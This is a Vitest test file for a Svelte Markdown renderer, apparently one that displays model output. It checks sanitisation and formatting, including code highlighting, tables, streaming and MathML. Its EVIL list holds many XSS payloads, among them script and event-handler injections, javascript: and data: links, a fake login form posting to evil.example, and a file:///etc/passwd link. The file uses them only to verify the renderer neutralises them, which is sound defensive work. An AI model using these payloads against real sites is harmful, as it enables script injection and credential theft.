import { render } from '@testing-library/svelte';
import { tick } from 'svelte';
import { describe, expect, it, vi } from 'vitest';

import Markdown from './Markdown.svelte';

function show(text: string, streaming = false): HTMLElement {
  return render(Markdown, { text, streaming }).container.querySelector('.markdown')!;
}

const EVIL = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=//evil.example></object><embed src=//evil.example>',
  '<form action=//evil.example><input name=key><button>Sign in</button></form>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<div style="position:fixed;inset:0">x</div>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](blob:http://a/b)',
  '[x](file:///etc/passwd)',
  '[x](http://a/"onmouseover="alert(1))',
  '[x](http://a "t\\" onmouseover=alert(1)")',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '`<img src=x onerror=alert(1)>`',
  '```\n</code></pre><img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js" onmouseover="alert(1)\ncode\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '- <img src=x onerror=alert(1)>\n  1. > <svg onload=alert(1)>',
  '# <img src=x onerror=alert(1)>',
  '**<img src=x onerror=alert(1)>**',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\htmlStyle{position:fixed}{x}$$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$$\\includegraphics{//evil.example/x.png}$$',
  '\\[\\url{javascript:alert(1)}\\]',
];
const ALLOWED = new Set(
  (
    'P H3 H4 H5 H6 STRONG EM DEL CODE PRE BR A UL OL LI INPUT BLOCKQUOTE TABLE THEAD TBODY TR TH TD HR IMG SPAN DIV ' +
    'FIGURE FIGCAPTION BUTTON svg path rect line'
  ).split(' '),
);
const isOurs = (element: Element): boolean => element.closest('button') !== null || element.closest('math') !== null;

describe('what a model wrote', () => {
  for (const streaming of [false, true]) {
    it.each(EVIL)(`%j does nothing (streaming: ${streaming})`, async (text) => {
      const box = show(text, streaming);
      await vi.dynamicImportSettled();
      await tick();
      for (const element of box.querySelectorAll('*')) {
        if (isOurs(element)) continue;
        expect(ALLOWED).toContain(element.tagName);
        if (element.tagName === 'INPUT') expect(element).toHaveProperty('type', 'checkbox');
        for (const { name, value } of element.attributes) {
          expect(name).toMatch(
            /^(class|href|title|target|rel|scope|tabindex|role|aria-[a-z]+|type|disabled|checked|start|alt|src|dir)$/,
          );
          if (name === 'href') expect(value).toMatch(/^https?:\/\/|^mailto:/);
          if (name === 'src') expect(value).toMatch(/^data:image\/(png|jpeg|webp|gif);base64,/);
        }
      }
      for (const element of box.querySelectorAll('math, math *')) {
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|href|src|style/);
          expect(value).not.toContain('javascript:');
        }
      }
      expect(
        box.querySelector('script, style, iframe, object, embed, form, svg *[onload], base, meta, link'),
      ).toBeNull();
    });
  }

  it('shows HTML as text, to the letter', () => {
    const html = '<script>alert("a & b")</script> and <b>bold</b>';
    expect(show(html).textContent).toBe(html);
  });

  it('leads elsewhere without telling where from', () => {
    const link = show('[a](https://example.com/?a=1&amp;b=2)').querySelector('a')!;
    expect(link.href).toBe('https://example.com/?a=1&b=2');
    expect(link.target).toBe('_blank');
    expect(link.rel).toBe('noopener noreferrer');
  });

  it('loads no image from elsewhere but links to it', () => {
    const box = show('![a cat](https://example.com/cat.png)');
    expect(box.querySelector('img')).toBeNull();
    expect(box.querySelector('a')?.textContent).toBe('Image: a cat');
  });

  it('shows an image that comes with the text', () => {
    expect(show('![dot](data:image/png;base64,iVBORw0KGgo=)').querySelector('img')?.alt).toBe('dot');
  });

  it('survives nesting that no stack is made for', () => {
    expect(show('>'.repeat(20_000) + ' deep').textContent).toContain('deep');
    expect(show('- '.repeat(500) + 'deep').textContent).toContain('deep');
    expect(show('['.repeat(5000) + 'deep').textContent).toContain('deep');
  });
});

describe('Markdown', () => {
  it.each([
    ['a **b** *c* ~~d~~ `e`', 'strong, em, del, code'],
    ['1. a\n2. b', 'ol > li + li'],
    ['- [x] a\n- [ ] b', 'li.task > input[type=checkbox]:checked'],
    ['| a | b |\n|:-:|--:|\n| 1 | 2<br>3 |', '.table-box td.center + td.right br'],
    ['> a\n> - b', 'blockquote li'],
    ['3. c', 'ol[start="3"]'],
    ['- a\n\n  ```js\n  1\n  ```', 'li figure pre code'],
    ['a\nb', 'p br'],
    ['---', 'hr'],
  ])('%j has %s', (text, selector) => {
    expect(show(text).querySelector(selector)).not.toBeNull();
  });

  it('means characters by their references, but not in code', () => {
    expect(show('&copy; 1 &lt; 2 &nosuch; \\&amp; AT&T').textContent).toBe('© 1 < 2 &nosuch; &amp; AT&T');
    expect(show('`&copy;`').textContent).toBe('&copy;');
  });

  it('leaves what has not changed in its place while more comes', async () => {
    const { container, rerender } = render(Markdown, { text: 'one **two**\n\nthr', streaming: true });
    const [first, strong] = [container.querySelector('p'), container.querySelector('strong')];
    await rerender({ text: 'one **two**\n\nthree\n\n- four', streaming: true });
    await rerender({ text: 'one **two**\n\nthree\n\n- four', streaming: false });
    expect(container.querySelector('p')).toBe(first);
    expect(container.querySelector('strong')).toBe(strong);
    expect(container.querySelector('li')?.textContent?.trim()).toBe('four');
  });

  it('colours code whose language it knows, and keeps every character', async () => {
    const code = 'def f(a):\n    return "<b>" + a  # & so on';
    const box = show('```python\n' + code + '\n```');
    await vi.waitFor(() => expect(box.querySelector('.hljs-keyword')?.textContent).toBe('def'));
    expect(box.querySelector('pre')?.textContent).toBe(code);
    expect(box.querySelector('figcaption')?.textContent?.trim()).toBe('python');
  });

  it('colours the beginning of long code only, once', async () => {
    const code = '# one\n' + 'words\n'.repeat(20_000) + '# two';
    const box = show('```md\n' + code + '\n```');
    await vi.waitFor(() => expect(box.querySelector('.hljs-section')).not.toBeNull());
    const first = box.querySelector('.hljs-section');
    await vi.dynamicImportSettled();
    await tick();
    expect([...box.querySelectorAll('.hljs-section')]).toEqual([first]);
    expect(box.querySelector('pre')?.textContent).toBe(code);
  });

  it('colours code that grows', async () => {
    const { container, rerender } = render(Markdown, { text: '```js\nlet a', streaming: true });
    await vi.waitFor(() => expect(container.querySelectorAll('.hljs-keyword')).toHaveLength(1));
    await rerender({ text: '```js\nlet a\nlet b', streaming: true });
    expect(container.querySelector('pre')?.textContent).toBe('let a\nlet b');
    await vi.waitFor(() => expect(container.querySelectorAll('.hljs-keyword')).toHaveLength(2));
  });

  it('colours only the end of long code that grows, and the whole when it is there', async () => {
    const code = `let a = \`\n${'b\n'.repeat(60)}`;
    const { container, rerender } = render(Markdown, { text: '```js\n' + code, streaming: true });
    const chunks = () => [...container.querySelectorAll('.chunk')];
    await vi.waitFor(() => expect(chunks()[0]?.querySelector('.hljs-keyword')).not.toBeNull());
    const first = chunks()[0]?.firstChild;
    await rerender({ text: '```js\n' + code + 'let c', streaming: true });
    await vi.waitFor(() => expect(chunks()[1]?.querySelector('.hljs-keyword')).not.toBeNull());
    expect(chunks()[0]?.firstChild).toBe(first);
    await rerender({ text: '```js\n' + code + 'let c\n```', streaming: false });
    await vi.waitFor(() => expect(chunks()[1]?.firstElementChild?.className).toBe('hljs-string'));
    expect(chunks()[1]?.querySelector('.hljs-keyword')).toBeNull();
    expect(container.querySelector('pre')?.textContent).toBe(code + 'let c');
  });

  it('gives what is selected of code to the letter', () => {
    const code = `${'a\n\n'.repeat(80)}b`;
    const box = show('```\n' + code + '\n```').querySelector('code')!;
    getSelection()!.selectAllChildren(box);
    const copied = new Map<string, string>();
    const event = new Event('copy', { bubbles: true, cancelable: true });
    const clipboardData = { setData: (type: string, text: string) => copied.set(type, text) };
    box.dispatchEvent(Object.assign(event, { clipboardData }));
    getSelection()!.removeAllRanges();
    expect(copied.get('text/plain')).toBe(code);
  });

  it('reads one tilde as it stands', () => {
    const box = show('H~2~O and ~~gone~~');
    expect(box.textContent).toBe('H~2~O and gone');
    expect([...box.querySelectorAll('del')].map((element) => element.textContent)).toEqual(['gone']);
  });

  it('leaves the rows of a table that grows as they are', async () => {
    const table = '| a |\n|---|\n| [b](https://b.example) |\n';
    const { container, rerender } = render(Markdown, { text: table, streaming: true });
    const link = container.querySelector('td a');
    await rerender({ text: `${table}| c |\n`, streaming: true });
    expect(container.querySelectorAll('td')).toHaveLength(2);
    expect(container.querySelector('td a')).toBe(link);
  });

  it('runs each block in the direction of its words, and code from left to right', () => {
    const box = show('שלום\n\n- a\n\n> b\n\n| c |\n|---|\n\n```\nd\n```');
    for (const selector of ['p', 'ul', 'blockquote', 'th'])
      expect(box.querySelector(selector)).toHaveProperty('dir', 'auto');
    expect(box.querySelector('blockquote p')).toHaveProperty('dir', '');
    expect(box.querySelector('figure')).toHaveProperty('dir', 'ltr');
  });

  it('sets formulas as MathML', async () => {
    const box = show('So $a_1 < \\color{red} b$ and\n\n$$\n\\frac{1}{2}\n$$');
    await vi.waitFor(() => expect(box.querySelectorAll('math')).toHaveLength(2));
    expect(box.querySelector('math[display=block] mfrac')).not.toBeNull();
    expect(box.querySelector('annotation, [style]')).toBeNull();
    expect(box.textContent).not.toContain('frac');
  });

  it('shows a formula that is none as it was written', async () => {
    const box = show('$\\frac{$ x');
    await vi.dynamicImportSettled();
    expect(box.textContent).toContain('\\frac{');
  });
});
